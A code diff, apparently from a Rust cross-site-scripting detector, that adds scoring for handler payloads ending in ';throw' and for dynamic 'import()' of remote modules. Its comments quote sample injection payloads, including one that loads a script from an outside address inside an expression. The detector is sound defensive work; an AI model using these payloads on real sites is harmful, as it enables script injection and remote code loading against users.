@@ -78,7 +78,7 @@ pub(super) fn search(text: &[u8]) -> Option<(f64, usize)> {
         }
     }
     let [scheme, style, call, touch] = found;
-    [scheme, handler(text), style, call, touch]
+    [scheme, handler(text), style, call, touch, imported(text)]
         .into_iter()
         .flatten()
         .max_by(|a, b| a.0.total_cmp(&b.0))
@@ -123,8 +123,10 @@ fn handler(text: &[u8]) -> Option<(f64, usize)> {
             continue;
         }
         let value = text.get(equals + 1..).unwrap_or_default();
+        // `onerror=alert;throw 1` runs without a bracket.
         let runs = value.iter().any(|byte| matches!(byte, b'(' | b'`'))
-            || find(value, b"location").is_some();
+            || find(value, b"location").is_some()
+            || find(value, b";throw").is_some();
         let quoted = at.checked_sub(1).is_some_and(|at| {
             text.get(..=at)
                 .unwrap_or_default()
@@ -144,6 +146,17 @@ fn handler(text: &[u8]) -> Option<(f64, usize)> {
         }
     }
     best
+}
+
+/// `'-import('//10.0.0.9/x.js')-'`: a module from elsewhere, loaded in the middle of an expression.
+fn imported(text: &[u8]) -> Option<(f64, usize)> {
+    let at = find(text, b"import(")?;
+    let address = text.get(at + 7..)?;
+    let address = address.strip_prefix(b"'").or_else(|| address.strip_prefix(b"\""))?;
+    let elsewhere = [&b"//"[..], b"http", b"data:"].iter().any(|start| address.starts_with(start));
+    let before = text.get(at.checked_sub(1)?)?;
+    let breaks = matches!(before, b'-' | b'+' | b'*' | b'^' | b'|' | b'&' | b';' | b'\'' | b'"');
+    (elsewhere && breaks && prose_words(text, at) < PROSE_WORDS_MIN).then_some((0.7, at))
 }
 
 /// `alert(1)`, `(alert)(1)`, `` alert`1` ``, `[1].map(alert)`.
